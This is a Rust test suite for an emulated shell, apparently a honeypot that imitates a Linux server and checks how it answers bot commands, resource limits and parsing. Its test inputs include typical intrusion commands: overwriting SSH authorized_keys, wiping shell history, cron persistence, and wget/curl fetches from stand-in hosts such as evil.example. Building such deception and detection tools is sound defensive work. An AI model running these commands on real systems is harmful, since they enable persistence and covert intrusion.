//! What bots say, what is kept of it, and what it may cost.

extern crate std;

use super::*;
use proptest::{collection::vec, prelude::*, sample::select};

fn answer(lines: &[&str]) -> (String, String) {
    run_all(&Persona::of([7; 32]).named("web-01").unwrap(), "root", lines, false)
}

#[test]
fn what_bots_do_leaves_what_they_expect() {
    let table: [(&str, &str); 22] = [
        (
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA x\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~ && cat .ssh/authorized_keys",
            "ssh-rsa AAAA x\n",
        ),
        ("mkdir /tmp/q; rm -rf /tmp/q; ls -d /tmp/q 2>&1", "ls: cannot access '/tmp/q': No such file or directory\n"),
        ("mkdir -p /a/b/c && cd /a/b && pwd", "/a/b\n"),
        ("mkdir /nosuch/x && echo created", ""),
        (
            "echo \"321\" > /var/tmp/.v; cat /var/tmp/.v | head -n 1; rm -rf /var/tmp/.v; cat /var/tmp/.v 2>/dev/null || echo gone",
            "321\ngone\n",
        ),
        ("which ls useradd nosuch", "/usr/bin/ls\n/usr/sbin/useradd\n"),
        ("echo $(uname -m) `whoami`", "x86_64 root\n"),
        ("u=$(uname -s -m 2>/dev/null); c=$(nproc); echo \"UNAME:$u\"", "UNAME:Linux x86_64\n"),
        ("sh -c \"uname -m\"; bash -c 'echo hi'; (uname -s || /bin/uname -s)", "x86_64\nhi\nLinux\n"),
        (
            "grep -c root /etc/passwd; head -1 /etc/passwd; cat /etc/passwd | awk -F: '{print $1}' | head -1; cut -d: -f7 /etc/passwd | head -1",
            "1\nroot:x:0:0:root:/root:/bin/bash\nroot\n/bin/bash\n",
        ),
        ("cat /proc/cpuinfo | grep '^processor' | wc -l | tr -d ' ' | sed \"s/$(nproc)/same/\"", "same\n"),
        ("[ -f /etc/passwd ] && echo T; if [ -d /tmp ]; then echo yes; fi", "T\nyes\n"),
        ("for d in /tmp /var/run /nosuch; do [ -d $d ] && cd $d && pwd; done", "/tmp\n/var/run\n"),
        ("printf '#!/bin/sh\\necho ran $1\\n' > /tmp/a; chmod +x /tmp/a; /tmp/a now; sh /tmp/a too", "ran now\nran too\n"),
        ("echo x > /tmp/b; /tmp/b 2>&1", "bash: line 1: /tmp/b: Permission denied\n"),
        ("cp /bin/echo /tmp/.s; head -c 4 /tmp/.s | tail -c 3; dd bs=52 count=1 if=/tmp/.s 2>/dev/null | wc -c", "ELF52\n"),
        (
            "echo a > /tmp/g1; echo b > /tmp/g2; ls /tmp/g*; cat /tmp/g? | sort -r; rm /tmp/g*; ls /tmp/g* 2>/dev/null | wc -l",
            "/tmp/g1\n/tmp/g2\nb\na\n0\n",
        ),
        ("nohup sh /tmp/x >/dev/null 2>&1 &", ""),
        ("while true; do echo a; done | head -1; export HISTFILE=/dev/null; unset HISTORY; history -c; echo ok", "a\nok\n"),
        ("echo hello | tee /tmp/f; cat /tmp/f; echo more >> /tmp/f; wc -l < /tmp/f", "hello\nhello\n2\n"),
        ("date +%s; date -u +%Y-%m-%d", "1796040000\n2026-11-30\n"),
        ("busybox echo hi; /bin/busybox NOSUCH 2>&1; busybox cat /etc/hostname", "hi\nNOSUCH: applet not found\nweb-01\n"),
    ];
    for (line, expected) in table {
        assert_eq!(answer(&[line]).0, expected, "{line}");
    }
    assert!(answer(&["/bin/busybox cat /proc/self/exe || cat /proc/self/exe"]).0.starts_with("\u{7f}ELF\u{2}\u{1}\u{1}"));
    assert!(answer(&["ls -lh $(which ls)"]).0.starts_with("-rwxr-xr-x 1 root root 155K "));
    assert!(answer(&["top -bn1"]).0.starts_with("top - 12:00:00 up "));
    let (_, told) = answer(&["wget http://198.51.100.9/i.sh"]);
    assert_eq!(
        told,
        "--2026-11-30 12:00:00--  http://198.51.100.9/i.sh\nConnecting to 198.51.100.9:80... failed: Network is unreachable.\n"
    );
}

#[test]
fn what_reads_the_channel_waits_for_it_wherever_it_stands() {
    let persona = Persona::of([7; 32]);
    let table = [
        ("sh -c 'cat > /tmp/x'", Some(Reads::File)),
        ("(cat > /tmp/b)", Some(Reads::File)),
        ("{ cat; } > /tmp/b; /tmp/b", Some(Reads::File)),
        ("cat | sh", Some(Reads::Commands)),
        ("cat", Some(Reads::Echo)),
        ("bash -s", Some(Reads::Commands)),
        ("base64 -d > /tmp/f", Some(Reads::File)),
        ("cat | base64 -d > /tmp/f", Some(Reads::File)),
        ("tar xzf - -C /tmp", Some(Reads::File)),
        ("gunzip > /tmp/x", Some(Reads::File)),
        ("scp -qt /tmp/up4", Some(Reads::Copy)),
        ("dd of=/tmp/x bs=1", Some(Reads::File)),
        ("tee /tmp/x", Some(Reads::Echo)),
        ("x=$(cat); echo $x", Some(Reads::File)),
        ("while read x; do echo $x; done", Some(Reads::File)),
        ("dd if=/dev/zero of=/tmp/y bs=1M count=1", None),
        ("echo hello | tee f", None),
        ("cat < /dev/null", None),
        ("cat /etc/issue | cat", None),
        ("cat &", None),
        ("echo | sh", None),
    ];
    for (line, expected) in table {
        let mut output = Output::default();
        let _ = Shell::new(&persona, b"root", NOON, false).run(line.as_bytes(), &mut Place::default(), &mut output);
        assert_eq!(output.reads, expected, "{line}");
    }
}

#[test]
fn a_line_that_is_not_whole_waits_for_the_next() {
    let persona = Persona::of([7; 32]);
    let shell = Shell::new(&persona, b"root", NOON, true);
    let (mut place, mut output) = (Place::default(), Output::default());
    for line in ["for i in 1 2", "do echo $i", "done; echo \"a", "b\"", "cat <<E", "x $((1+1))", "E", "exit 4"] {
        let _ = shell.run_line(line.as_bytes(), &mut place, &mut output);
        assert_eq!(shell.prompt(&place) == "> ", !["b\"", "E", "exit 4"].contains(&line), "{line}");
    }
    assert_eq!((said(&output.out).as_str(), output.status), ("1\n2\na\nb\nx 2\n", 4));
    for _ in 0..2_000 {
        let _ = shell.run_line(&b"(".repeat(100), &mut place, &mut output);
        assert!(place.begun.len() <= BEGUN_BYTES_MAX);
    }
}

/// The dearest lines that are known: what prints nothing, what goes round, what nests, what makes others go back.
#[test]
fn no_line_takes_longer_than_its_work() {
    let persona = everything(Persona::of([7; 32]));
    let listing = alloc::format!("ls -la{} 2>/dev/null|x 2>/dev/null;", " /".repeat(63)).repeat(200);
    let lines = [
        listing,
        "ps aux|x 2>/dev/null;".repeat(1_000),
        "cat /proc/cpuinfo /etc/passwd|grep -c a;".repeat(800),
        "while true; do for i in 1 2 3 4 5 6 7 8 9; do cat /etc/passwd | sort; done; done".into(),
        "x() { x; x; }; x; y=$(y=$(y=$(x)))".into(),
        "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a*)*(a*)*(a*)*b'".into(),
        "x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; x=$x$x$x$x$x$x$x$x; x=$x$x; for i in $x $x; do echo ${x//a/$x}; echo ${x%%*b*c*d}; done".repeat(20),
        "ls -la /usr/bin /usr/sbin; ls /usr/bin/*;".repeat(100),
        // A word that is written may have 2,048 octets, one that is put together 16 KiB.
        format!("x='{}'; case $x$x$x$x$x$x in *$x$x${{x}}y) ;; esac", "[".repeat(500)),
        format!("x='{}'; y='{}'; case $x$x$x$x$x$x in $y$y${{y}}b) ;; esac", "a".repeat(500), "*a".repeat(250)),
        format!("x='{}'; y='{}'; [[ $x$x$x$x$x$x == *$y$y${{y}}b ]]", "a".repeat(500), "[[:alnum:]a]".repeat(40)),
        format!("x='{}'; echo ${{x%%{}}}", "a".repeat(500), "*a".repeat(200)).repeat(2),
        format!("x='{}'; yes | tr -d '\\n' | tr -cs $x$x$x$x$x$x$x$x b;", "!-~".repeat(160)).repeat(3),
        format!("x='{}'; yes | tr -d '\\n' | cut -c $x$x$x$x$x$x$x$x;", "9,".repeat(250)).repeat(3),
        format!("x='{}'; yes a b | head -9 | awk \"{{print $x$x$x$x$x$x$x$x 1}}\";", "\\$200,".repeat(80)).repeat(3),
        format!("x='{}'; yes | tr -d '\\n' | sed -E \"s/y*/$x$x$x$x$x$x$x$x/g\" | wc -c;", "&".repeat(500)).repeat(3),
        "echo|grep -E '((a{1,255}){1,255}){1,255}';".repeat(40),
        "yes | tr -d '\\n' | grep -E '(y|yy)*(y{1,40}){1,12}x';".repeat(20),
        "yes | head -100000 | sort | uniq -c | awk '{for(i=0;i<9;i++)print}' | sed s/y/yyyyyyyyy/g".repeat(50),
        format!("stat -c '{}'{} | wc -c", "%200n".repeat(60), " /".repeat(900)),
        format!("stat{} | wc -c", " /etc".repeat(900)),
        format!("stat -f{} | wc -c", " /etc".repeat(900)),
        format!("realpath -m{} | wc -c;", format!(" /{}", "n".repeat(200)).repeat(60)).repeat(9),
        format!("cd /tmp; while :; do touch {0}; shred -uvz {0} 2>/dev/null; done", "n".repeat(200)),
        format!("cd /tmp; touch {0}; while :; do chmod -v 600 {0}{1}; done >/dev/null", "n".repeat(200), " /etc/hostname".repeat(60)),
        "mkdir /tmp/a; while :; do cp -rv /etc /tmp/a; rm -rv /tmp/a; done >/dev/null".into(),
    ];
    for line in lines {
        let (mut place, mut output) = (Place::default(), Output::default());
        let begun = std::time::Instant::now();
        let shell = Shell::new(&persona, b"root", NOON, false);
        let _ = shell.run(line.as_bytes(), &mut place, &mut output);
        let took = begun.elapsed();
        std::println!("{took:>10.1?} {:>5} steps left, {}", shell.steps_left(), &line[..line.len().min(60)]);
        // Many times what it takes on a machine that does nothing else, where it is a millisecond or two.
        assert!(took.as_millis() < 100, "{took:?}: {}", &line[..line.len().min(60)]);
    }
}

/// What multiplies is paid before it is made; what is left at the end is nothing.
#[test]
fn what_grows_is_paid_before_it_is_there() {
    let persona = Persona::of([7; 32]);
    let left = |line: String| {
        let (mut place, mut output) = (Place::default(), Output::default());
        place.bring(Vec::new(), 0);
        let shell = Shell::new(&persona, b"root", NOON, false);
        let _ = shell.run(line.as_bytes(), &mut place, &mut output);
        shell.steps_left()
    };
    let long = |text: &str, times: usize| text.repeat(times);
    let lines = [
        alloc::format!("for i in {{1..500}}; do : {{1..512}}'{}'; done", long("A", 30_000)),
        alloc::format!("for i in {{1..500}}; do x='{}'; done", long("A", 30_000)),
        alloc::format!("while printf '{}' >/dev/null; do :; done", long("%511d", 3_000)),
        long("cat /proc/loadavg >/dev/null;", 60),
    ];
    for line in lines {
        assert_eq!(left(line.clone()), 0, "{}", &line[..60]);
    }
    assert!(left(alloc::format!("x='{}'", long("A", 30_000))) > 4_000, "said once it is paid once");
    let squared = alloc::format!("yes a | tr -d '\\n' | xargs -I a echo '{}'", long("a", 15_000));
    assert_eq!(answer(&[&squared]), (String::new(), "xargs: argument line too long\n".into()));
}

/// A path that grows by what it is moved into ends where paths end.
#[test]
fn paths_do_not_grow() {
    let long = |letter: &str| letter.repeat(130);
    let (a, b) = (long("a"), long("b"));
    let line = alloc::format!(
        "mkdir -p /tmp/x/{a} /tmp/y/{b}; echo 1 > /tmp/x/{a}/f; mv /tmp/x /tmp/y/{b}; cp -r /tmp/x /tmp/y/{b}; ls /tmp; cat /tmp/x/{a}/f; ls /tmp/y/{b}/x"
    );
    let (out, err) = answer(&[&line]);
    let tail = format!("{a}': File name too long\n");
    assert!(err.starts_with(&format!("mv: cannot move '/tmp/x' to '/tmp/y/{b}/x': File name too long\n")), "{err}");
    assert!(err.contains("cp: cannot create directory") && err.contains(&tail), "{err}");
    assert!(out.starts_with("x\ny\n1\n"), "{out}");
}

#[test]
fn no_number_is_too_large() {
    let most = "18446744073709551615";
    for line in [
        "grep -A N a /etc/passwd; grep -C N a /etc/passwd; grep -m N a /etc/passwd",
        "dd if=/dev/zero of=/tmp/x bs=1G count=20000000000; dd if=/dev/zero bs=N count=N; dd if=/etc/passwd skip=N bs=N",
        "cut -c N- /etc/passwd; cut --complement -f N /etc/passwd; cut -c1-N /etc/passwd; head -N /etc/passwd; tail -n +N /etc/passwd",
        "printf '%Nd %.Nd %.Nf %*d' 1 2 3 -9223372036854775808 4; printf '%d %u %x' N N N; seq N; seq -9223372036854775808 9223372036854775807",
        "expr -9223372036854775808 / -1; echo $((-9223372036854775808/-1)) $((2**9223372036854775807)) $((1<<N)); echo {N..1} {1..3..N}",
        "touch -d 'N sec' a; touch -d '9223372036854775807 sec 9223372036854775807 sec 9223372036854775807 sec' a; touch -d @N a; stat a; date -d @N; date -r a; ls -l a",
        "shred -zn 4294967295 /etc/hostname; shred -n N /etc/hostname; truncate -s N a; truncate -s 9223372036854775807 a; shred a; truncate -s +N a; truncate -s %N a; du -bh a; stat a",
        "stat -c '%Nn %.Nn %-Nn' /; du -d N /etc; chmod N /; install -m N /etc/hosts a; touch -t NN a; date -d '9999-12-31 23:59:59 999999999 years' +%c",
        "xargs -n N echo < /etc/passwd; base64 -wN /etc/passwd; sort -k N /etc/passwd; exit N",
    ] {
        let _ = answer(&[&line.replace('N', most)]);
    }
}

/// A word that is long is one, and what stands behind it is run.
#[test]
fn a_long_text_is_run_to_its_end() {
    let script = "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >/dev/null\n".repeat(60) + "echo end";
    assert!(script.len() > 3_000);
    assert_eq!(answer(&[&script]).0, "end\n");
}

/// What is found is what he made, too, and what is done with it is done.
#[test]
fn folders_are_looked_through() {
    let made = "mkdir -p /tmp/q/d; cd /tmp/q; touch a d/b; echo x > d/c.sh; chmod +x d/c.sh;";
    let table = [
        ("find", ".\n./a\n./d\n./d/b\n./d/c.sh\n"),
        ("find . -name '*.SH'; find . -iname '*.SH' -o -name a", "./a\n./d/c.sh\n"),
        ("find d -maxdepth 1 -type f -empty; find . -perm -111 -type f; find . -size +0 -type f", "d/b\n./d/c.sh\n./d/c.sh\n"),
        ("find . -type f -name b -delete; find d; rm -r d; find", "d\nd/c.sh\n.\n./a\n"),
        ("find d -type f -exec cat {} \\; -print | tail -2; find . ! -type d | xargs -n1 basename", "x\nd/c.sh\na\nb\nc.sh\n"),
        ("ls -R; ls -F d; ls -p; ls -m", ".:\na\nd\n\n./d:\nb\nc.sh\nb\nc.sh*\na\nd/\na, d\n"),
        ("find / -name sshd_config 2>/dev/null; find . -mindepth 2 -path './d/*' -quit", "/etc/ssh/sshd_config\n"),
        ("echo '* * * * * id' | crontab -; crontab -l; crontab -r; crontab -l 2>&1", "* * * * * id\nno crontab for root\n"),
    ];
    for (line, expected) in table {
        assert_eq!(answer(&[&alloc::format!("{made} {line}")]).0, expected, "{line}");
    }
    let told = answer(&["wget -O- evil.example/x; curl evil.example/x; curl -s 198.51.100.9:81/x -S"]).1;
    assert_eq!(
        told,
        "--2026-11-30 12:00:00--  http://evil.example/x\nResolving evil.example (evil.example)... failed: Temporary failure in name \
         resolution.\nwget: unable to resolve host address \u{2018}evil.example\u{2019}\n".to_string()
            + "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n"
            + "                                 Dload  Upload   Total   Spent    Left  Speed\n"
            + "\r  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0curl: (6) Could not resolve host: evil.example\n"
            + "curl: (7) Failed to connect to 198.51.100.9 port 81 after 1 ms: Could not connect to server\n"
    );
}

/// What was typed in one line is known in the next, and in no other shell.
#[test]
fn functions_and_what_is_exported_stay() {
    let persona = Persona::of([7; 32]);
    let shell = Shell::new(&persona, b"root", NOON, true);
    let (mut place, mut output) = (Place::default(), Output::default());
    for line in [
        "f() {",
        "echo \"f $1\"",
        "}",
        "f a; x=1; export y=2",
        "bash -c 'f b; echo [$x$y]' 2>&1; env | grep -c ^x=",
        "unset -f f; f 2>&1",
    ] {
        let _ = shell.run_line(line.as_bytes(), &mut place, &mut output);
    }
    assert_eq!(said(&output.out), "f a\nbash: line 1: f: command not found\n[2]\n0\n-bash: f: command not found\n");
}

/// A line that breaks off ends no session of who typed it.
#[test]
fn a_wrong_sum_is_no_end() {
    let persona = Persona::of([7; 32]);
    let shell = Shell::new(&persona, b"root", NOON, true);
    let (mut place, mut output) = (Place::default(), Output::default());
    for line in ["echo $((1+)); echo no", "echo ${x:?no}; echo no", "echo $?"] {
        assert_eq!(shell.run_line(line.as_bytes(), &mut place, &mut output), Outcome::Prompt, "{line}");
    }
    assert_eq!(said(&output.out), "127\n");
}

const WORDS: [&str; 60] = [
    "echo",
    "cat",
    "ls",
    "-la",
    "/",
    "/etc/passwd",
    "/tmp/x",
    "|",
    "||",
    "&&",
    ";",
    "&",
    "\n",
    "(",
    ")",
    "{",
    "}",
    "if",
    "then",
    "else",
    "fi",
    "while",
    "do",
    "done",
    "for",
    "i",
    "in",
    "$i",
    "$(",
    "`",
    "'",
    "\"",
    "\\",
    "${x:-",
    "$((",
    "))",
    "<<EOF",
    "EOF",
    "<",
    ">",
    ">>",
    "2>&1",
    "grep",
    "-E",
    "(a*)*",
    "sed",
    "s/a/b/g",
    "awk",
    "{print $1}",
    "sh",
    "-c",
    "x=1",
    "rm",
    "-rf",
    "~/.ssh",
    "seq",
    "99999",
    "xargs",
    "case",
    "esac",
];

proptest! {
    #[test]
    fn whatever_is_said_is_answered_within_bounds(words in vec(select(WORDS.to_vec()), 0..60), glued in any::<u64>(), typed in any::<bool>()) {
        let mut line = String::new();
        for (at, word) in words.iter().enumerate() {
            line += word;
            if glued >> (at % 64) & 1 == 0 {
                line += " ";
            }
        }
        let persona = Persona::of([7; 32]);
        let shell = Shell::new(&persona, b"root", NOON, typed);
        let (mut place, mut output) = (Place::default(), Output::default());
        let _ = if typed { shell.run_line(line.as_bytes(), &mut place, &mut output) } else { shell.run(line.as_bytes(), &mut place, &mut output) };
        prop_assert!(output.out.len() <= OUTPUT_BYTES_MAX && output.err.len() <= OUTPUT_BYTES_MAX);
        let again = Shell::new(&persona, b"root", NOON, typed);
        let (mut other, mut second) = (Place::default(), Output::default());
        let _ = if typed { again.run_line(line.as_bytes(), &mut other, &mut second) } else { again.run(line.as_bytes(), &mut other, &mut second) };
        prop_assert_eq!((output.out, output.err, output.status), (second.out, second.err, second.status));
    }
}
